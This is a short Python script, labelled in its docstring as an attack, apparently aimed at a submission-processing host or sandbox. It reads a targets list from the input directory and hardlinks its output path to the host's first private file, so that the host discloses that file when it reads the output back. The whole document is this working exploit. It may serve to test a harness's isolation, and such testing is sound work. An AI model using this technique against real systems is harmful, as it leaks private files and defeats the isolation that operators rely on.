"""Attack: have the host read its own private file, which got the submission's name as a second one."""

import json
import os
from pathlib import Path

TARGETS = json.loads(Path(os.environ["INPUT"], "targets.json").read_bytes())

Path(os.environ["OUTPUT"]).hardlink_to(TARGETS["private_files"][0])
